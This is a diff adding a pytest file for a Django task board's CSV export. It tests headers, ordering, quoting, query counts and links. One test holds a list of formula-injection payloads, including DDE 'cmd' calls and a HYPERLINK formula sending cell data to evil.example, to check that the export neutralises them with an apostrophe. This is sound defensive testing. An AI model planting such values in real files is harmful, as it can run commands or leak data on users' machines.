@@ -1,0 +1,113 @@
+"""Tasks as CSV: all that a card says, and nothing that a spreadsheet would run."""
+
+import csv
+from datetime import date
+from io import StringIO
+
+import pytest
+
+from board.models import Status
+
+pytestmark = pytest.mark.django_db
+HEAD = ["Number", "Name", "Description", "Sprint", "Column", "Assigned to", "Due", "Started", "Completed"]
+
+
+def read(answer):
+    """Return the lines of an answer, the first one apart, as a spreadsheet reads them."""
+    assert answer["Content-Type"] == "text/csv; charset=utf-8"
+    text = answer.content.decode()
+    assert text.startswith("\ufeff")
+    head, *lines = csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""))
+    assert head == HEAD
+    return lines
+
+
+def test_a_sprint_comes_as_its_board_shows_it(browser, sprint, next_sprint, add, user):
+    first, second = add("First", sprint), add("Second", sprint)
+    done = add(
+        "Done", sprint, Status.DONE, assigned=user, due=date(2999, 1, 2), description="Two\nlines, “quoted”"
+    )
+    add("Elsewhere", next_sprint)
+    add("Waiting")
+    answer = browser.get(f"/sprints/{sprint.pk}/tasks.csv")
+    assert answer["Content-Disposition"] == f'attachment; filename="sprint-{sprint.pk}.csv"'
+    today = done.completed.isoformat()
+    assert read(answer) == [
+        [str(first.pk), "First", "", "Sprint 1", "Not Started", "", "", "", ""],
+        [str(second.pk), "Second", "", "Sprint 1", "Not Started", "", "", "", ""],
+        [
+            str(done.pk),
+            "Done",
+            "Two\nlines, “quoted”",
+            "Sprint 1",
+            "Completed",
+            "Ana Lind",
+            "2999-01-02",
+            today,
+            today,
+        ],
+    ]
+
+
+def test_all_tasks_come_with_the_backlog_first_and_then_sprint_by_sprint(browser, sprint, next_sprint, add):
+    add("Later", next_sprint)
+    add("Sooner", sprint, Status.ACTIVE)
+    add("Waiting")
+    lines = read(browser.get("/tasks.csv"))
+    assert [(line[1], line[3], line[4]) for line in lines] == [
+        ("Waiting", "", "Backlog"),
+        ("Sooner", "Sprint 1", "In Development"),
+        ("Later", "Sprint 2", "Not Started"),
+    ]
+
+
+FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1",
+    "+cmd|' /C calc'!A0",
+    "-1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    '=1","=2',
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_what_would_be_a_formula_begins_with_an_apostrophe(browser, sprint, add, user, formula):
+    add("Plain", sprint, description=formula)
+    type(user).objects.update(first_name=formula, last_name="")
+    type(sprint).objects.update(name=formula)
+    add(formula.strip() if formula[0].isspace() else formula, assigned=user)
+    cells = [cell for line in read(browser.get("/tasks.csv")) for cell in line]
+    assert f"'{formula}" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
+
+
+def test_every_cell_is_quoted(browser, add):
+    add('A "quoted" name, with a comma')
+    lines = browser.get("/tasks.csv").content.decode().splitlines()
+    assert lines[1].startswith('"1","A ""quoted"" name, with a comma","","","Backlog",')
+
+
+def test_the_number_of_queries_does_not_grow(browser, sprint, add, user, django_assert_num_queries):
+    add("One", sprint, assigned=user)
+    browser.get("/tasks.csv")
+    for n in range(30):
+        add(f"Task {n}", sprint, assigned=user)
+    with django_assert_num_queries(3):
+        browser.get("/tasks.csv")
+
+
+@pytest.mark.parametrize("page", ["/", "/sprints/past/"])
+def test_the_lists_of_sprints_lead_to_all_tasks(browser, page):
+    assert '<a href="/tasks.csv" download>' in browser.get(page).content.decode()
+
+
+def test_a_board_leads_to_its_tasks(browser, sprint):
+    page = browser.get(f"/sprints/{sprint.pk}/").content.decode()
+    assert f'<a href="/sprints/{sprint.pk}/tasks.csv" download>' in page
